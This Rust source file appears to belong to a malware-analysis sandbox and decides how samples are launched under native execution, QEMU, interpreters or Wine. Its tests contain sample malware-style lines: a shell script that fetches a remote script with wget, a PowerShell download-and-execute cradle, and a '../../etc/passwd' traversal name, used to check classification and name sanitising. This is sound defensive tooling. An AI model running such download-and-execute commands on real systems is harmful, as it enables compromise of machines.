//! How a sample is started: by its type, with an interpreter or an emulated processor.

use crate::image::System;
use crate::windows;
use ukai_model::{Analysis, ElfInfo};

/// Where samples are put. Loaders put them there, too.
const FOLDER: &str = "/tmp";

/// How a sample is started.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Plan {
    /// What it is started as: `x86-64`, `arm`, `mipsel`, `sh` (a script), `python` ...
    pub architecture: String,
    /// Whose guest it needs.
    pub system: System,
    /// Where its file is put, in that system's words.
    pub path: Vec<u8>,
    /// The program; the sample itself, its interpreter, or Wine's loader.
    pub program: Vec<u8>,
    /// Its arguments, its own name first; of Windows, the command line.
    pub arguments: Vec<Vec<u8>>,
    /// What emulates its processor.
    pub emulator: Option<Vec<u8>>,
}

/// Why it cannot be started.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum Unsuitable {
    /// It is nothing that runs.
    #[error("{0} is nothing that runs; --arch says what to take it for")]
    Kind(String),
    /// Nothing here carries out its instructions.
    #[error("no emulator for {0}; --arch names another: {known}", known = architectures().join(", "))]
    Architecture(String),
    /// A script that Wine has no program for.
    #[error("Wine has no PowerShell: {0} is not run")]
    PowerShell(String),
    /// A program of Windows for a processor that the guest has not.
    #[error("a program of Windows for {0}, which Wine's guest cannot run")]
    WindowsMachine(String),
    /// A program in part.
    #[error("an ELF file of kind \"{0}\" has nothing to start")]
    ElfKind(String),
}

/// Names of processors, as QEMU's user mode has them, and as the model has them with their
/// word length and byte order.
const EMULATED: &[(&str, &str, u8, bool)] = &[
    ("arm", "arm", 32, true),
    ("armeb", "arm", 32, false),
    ("aarch64", "aarch64", 64, true),
    ("aarch64_be", "aarch64", 64, false),
    ("mips", "mips", 32, false),
    ("mipsel", "mips", 32, true),
    ("mips64", "mips", 64, false),
    ("mips64el", "mips", 64, true),
    ("ppc", "powerpc", 32, false),
    ("ppc64", "powerpc64", 64, false),
    ("ppc64le", "powerpc64", 64, true),
    ("sh4", "sh", 32, true),
    ("sh4eb", "sh", 32, false),
    ("sparc", "sparc", 32, false),
    ("sparc64", "sparc64", 64, false),
    ("m68k", "m68k", 32, false),
    ("riscv32", "riscv", 32, true),
    ("riscv64", "riscv", 64, true),
    ("s390x", "s390", 64, false),
    ("microblaze", "microblaze", 32, false),
    ("microblazeel", "microblaze", 32, true),
    ("hppa", "parisc", 32, false),
    ("or1k", "openrisc", 32, false),
    ("xtensa", "xtensa", 32, true),
    ("xtensaeb", "xtensa", 32, false),
    ("nios2", "nios2", 32, true),
];

/// Processors that the guest has itself.
const NATIVE: [&str; 2] = ["x86-64", "x86"];

/// Interpreters by type: the type, the program.
const INTERPRETERS: &[(&str, &str)] = &[
    ("shell-script", "/bin/sh"),
    ("sh", "/bin/sh"),
    ("zsh", "/bin/sh"),
    ("python", "/usr/bin/python3"),
    ("perl", "/usr/bin/perl"),
];

/// What can be asked for as an architecture.
pub fn architectures() -> Vec<&'static str> {
    let emulated = EMULATED.iter().map(|known| known.0);
    let scripts = ["sh", "python", "perl"];
    NATIVE.into_iter().chain(emulated).chain(scripts).chain(windows::kinds()).collect()
}

/// How a sample is started that is called `name`, by what its bytes are, or as `wanted`.
pub fn plan(
    analysis: &Analysis,
    name: &[u8],
    wanted: Option<&str>,
    further: &[Vec<u8>],
) -> Result<Plan, Unsuitable> {
    let architecture = match wanted {
        Some(wanted) => wanted.to_owned(),
        None => architecture_of(analysis)?,
    };
    let name = name_of(analysis, name);
    if windows::kinds().any(|known| known == architecture) {
        let name = windows::file_name(&architecture, &name);
        let path = [windows::DESKTOP.as_bytes(), b"\\", &name].concat();
        let start = windows::start(&architecture, &path, analysis, further);
        let Some(start) = start else { return Err(Unsuitable::Architecture(architecture)) };
        return Ok(Plan {
            architecture,
            system: System::Windows,
            path,
            program: start.loader.into(),
            arguments: start.line,
            emulator: None,
        });
    }
    let path = [FOLDER.as_bytes(), b"/", &name].concat();
    let with = |program: &[u8], first: &[&[u8]], emulator: Option<String>| Plan {
        architecture: architecture.clone(),
        system: System::Linux,
        path: path.clone(),
        program: program.to_vec(),
        arguments: first
            .iter()
            .map(|argument| argument.to_vec())
            .chain(further.iter().cloned())
            .collect(),
        emulator: emulator.map(String::into_bytes),
    };
    if NATIVE.contains(&architecture.as_str()) {
        return Ok(with(&path, &[&path], None));
    }
    if EMULATED.iter().any(|known| known.0 == architecture) {
        // The guest's kernel knows what a program is for by its header, and goes on to know
        // it of programs that the sample starts. Only who knows better says it himself.
        let emulator = wanted.map(|_| format!("/usr/bin/qemu-{architecture}-static"));
        return Ok(with(&path, &[&path], emulator));
    }
    match INTERPRETERS.iter().find(|known| known.0 == architecture) {
        Some((_, program)) => Ok(with(program.as_bytes(), &[program.as_bytes(), &path], None)),
        None => Err(Unsuitable::Architecture(architecture)),
    }
}

fn architecture_of(analysis: &Analysis) -> Result<String, Unsuitable> {
    if let Some(elf) = &analysis.elf {
        return elf_architecture(elf);
    }
    if let Some(kind) = windows::kind(analysis) {
        return Ok(kind.to_owned());
    }
    if let Some(pe) = &analysis.pe {
        return Err(Unsuitable::WindowsMachine(pe.machine.clone()));
    }
    let kind = analysis.file_type.as_ref().map_or("unknown", |kind| &kind.name);
    match INTERPRETERS.iter().find(|known| known.0 == kind) {
        // Whatever shell it was written for, loaders are started by `sh`.
        Some(("shell-script" | "zsh", _)) => Ok("sh".to_owned()),
        Some((name, _)) => Ok((*name).to_owned()),
        None if kind == "powershell" => Err(Unsuitable::PowerShell("a script".to_owned())),
        None => Err(Unsuitable::Kind(kind.to_owned())),
    }
}

fn elf_architecture(elf: &ElfInfo) -> Result<String, Unsuitable> {
    if matches!(elf.kind.as_str(), "relocatable" | "core") {
        return Err(Unsuitable::ElfKind(elf.kind.clone()));
    }
    if NATIVE.contains(&elf.machine.as_str()) {
        return Ok(elf.machine.clone());
    }
    let fits = |known: &&(&str, &str, u8, bool)| {
        (known.1, known.2, known.3) == (elf.machine.as_str(), elf.bits, elf.little_endian)
    };
    if let Some(known) = EMULATED.iter().find(fits) {
        return Ok(known.0.to_owned());
    }
    let order = if elf.little_endian { "little" } else { "big" };
    let machine = format!("{} ({} bits, {order}-endian)", elf.machine, elf.bits);
    Err(Unsuitable::Architecture(machine))
}

/// A name that the guest's file system takes: the sample's own, or one of its digest.
fn name_of(analysis: &Analysis, name: &[u8]) -> Vec<u8> {
    const NAME_BYTES_MAX: usize = 200;
    let plain = !name.is_empty()
        && name.len() <= NAME_BYTES_MAX
        && name != b"."
        && name != b".."
        && !name.iter().any(|byte| matches!(byte, b'/' | b'\\' | 0));
    let digest = analysis.sha256.to_string();
    if plain { name.to_vec() } else { digest.as_bytes()[..8].to_vec() }
}

#[cfg(test)]
mod tests {
    use super::{Plan, System, Unsuitable, plan};
    use std::time::SystemTime;
    use ukai_model::{Analysis, Timestamp};
    use ukai_static::Limits;

    fn analyzed(bytes: &[u8]) -> Analysis {
        let now = Timestamp::from(SystemTime::UNIX_EPOCH);
        ukai_static::analyze(bytes, now, &Limits::default(), &mut |_| {})
    }

    /// A header of ELF and nothing else.
    fn elf(class: u8, order: u8, kind: u16, machine: u16) -> Vec<u8> {
        let number = |number: u16| {
            if order == 1 { number.to_le_bytes() } else { number.to_be_bytes() }
        };
        let mut bytes = vec![0x7f, b'E', b'L', b'F', class, order, 1];
        bytes.resize(16, 0);
        bytes.extend(number(kind));
        bytes.extend(number(machine));
        bytes.extend(if order == 1 { [1, 0, 0, 0] } else { [0, 0, 0, 1] });
        bytes.resize(if class == 1 { 52 } else { 64 }, 0);
        bytes
    }

    fn planned(bytes: &[u8], wanted: Option<&str>) -> Result<Plan, Unsuitable> {
        plan(&analyzed(bytes), b"bot.x", wanted, &[b"scan".to_vec()])
    }

    #[test]
    fn programs_are_started_on_their_processor() {
        for (class, order, machine, expected) in [
            (2, 1, 62, "x86-64"),
            (1, 1, 3, "x86"),
            (1, 1, 40, "arm"),
            (1, 2, 40, "armeb"),
            (2, 1, 183, "aarch64"),
            (1, 2, 8, "mips"),
            (1, 1, 8, "mipsel"),
            (1, 2, 20, "ppc"),
            (1, 1, 42, "sh4"),
            (1, 2, 2, "sparc"),
            (1, 2, 4, "m68k"),
            (2, 1, 243, "riscv64"),
            (2, 2, 22, "s390x"),
        ] {
            let plan = planned(&elf(class, order, 2, machine), None).expect(expected);
            assert_eq!(plan.architecture, expected);
            assert_eq!(plan.program, b"/tmp/bot.x");
            assert_eq!(plan.arguments, [b"/tmp/bot.x".to_vec(), b"scan".to_vec()]);
            assert_eq!(plan.emulator, None);
        }
        let told = planned(&elf(1, 1, 2, 40), Some("armeb")).expect("as it was told");
        assert_eq!(told.emulator.as_deref(), Some(&b"/usr/bin/qemu-armeb-static"[..]));
    }

    #[test]
    fn scripts_are_given_to_their_interpreter() {
        let script = b"#!/bin/bash\ncd /tmp || cd /var/run\nwget http://192.0.2.1/x.sh\n";
        let plan = planned(script, None).expect("a shell script");
        assert_eq!((plan.architecture.as_str(), plan.program), ("sh", b"/bin/sh".to_vec()));
        assert_eq!(plan.arguments[1], b"/tmp/bot.x");
        let python = b"#!/usr/bin/env python3\nimport socket\nprint(socket.gethostname())\n";
        assert_eq!(planned(python, None).expect("a script").program, b"/usr/bin/python3");
    }

    /// The headers of a PE file without sections.
    fn pe(machine: u16, wide: bool, library: bool) -> Vec<u8> {
        let mut bytes = b"MZ".to_vec();
        bytes.resize(60, 0);
        bytes.extend(64_u32.to_le_bytes());
        bytes.extend(b"PE\0\0");
        bytes.extend(machine.to_le_bytes());
        bytes.resize(84, 0);
        bytes.extend(if wide { 240_u16 } else { 224 }.to_le_bytes());
        bytes.extend(if library { 0x2002_u16 } else { 2 }.to_le_bytes());
        bytes.extend(if wide { 0x20b_u16 } else { 0x10b }.to_le_bytes());
        bytes.resize(if wide { 328 } else { 312 }, 0);
        bytes
    }

    #[test]
    fn programs_of_windows_are_started_by_wine() {
        let desktop = "C:\\users\\daniel\\Desktop\\bot.x";
        for (bytes, kind, loader, line) in [
            (pe(0x8664, true, false), "windows-x86-64", "wine64", format!("{desktop}.exe scan")),
            (pe(0x14c, false, false), "windows-x86", "wine", format!("{desktop}.exe scan")),
            (
                pe(0x14c, false, true),
                "windows-x86-dll",
                "wine",
                format!("C:\\windows\\syswow64\\rundll32.exe {desktop}.dll,scan"),
            ),
            (
                b"@echo off\r\nset X=1\r\n".to_vec(),
                "batch",
                "wine64",
                format!("C:\\windows\\system32\\cmd.exe /c {desktop}.bat scan"),
            ),
        ] {
            let plan = planned(&bytes, None).expect(kind);
            assert_eq!((plan.architecture.as_str(), plan.system), (kind, System::Windows));
            assert_eq!(plan.program, format!("/usr/lib/wine/{loader}").as_bytes());
            assert_eq!(String::from_utf8_lossy(&plan.arguments.join(&b' ')), line);
        }
        let arm = planned(&pe(0xaa64, true, false), None);
        assert!(matches!(arm, Err(Unsuitable::WindowsMachine(_))), "{arm:?}");
        let shell =
            planned(b"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", None);
        assert!(matches!(shell, Err(Unsuitable::PowerShell(_))), "{shell:?}");
    }

    #[test]
    fn what_does_not_run_is_told() {
        assert!(matches!(planned(b"just some words\n", None), Err(Unsuitable::Kind(_))));
        let object = planned(&elf(1, 1, 1, 40), None);
        assert_eq!(object, Err(Unsuitable::ElfKind("relocatable".to_owned())));
        let tile = planned(&elf(1, 1, 2, 188), None);
        assert!(matches!(tile, Err(Unsuitable::Architecture(_))), "{tile:?}");
        assert!(matches!(planned(b"x", Some("vax")), Err(Unsuitable::Architecture(_))));
    }

    #[test]
    fn a_name_that_is_a_path_is_not_taken() {
        for name in [&b"../../etc/passwd"[..], b"..", b"", b"a\0b", &[b'a'; 300]] {
            let plan = plan(&analyzed(&elf(2, 1, 2, 62)), name, None, &[]).expect("a program");
            let file = plan.path.strip_prefix(b"/tmp/").expect("in the folder");
            assert_eq!(file.len(), 8);
            assert!(file.iter().all(u8::is_ascii_hexdigit));
        }
    }
}
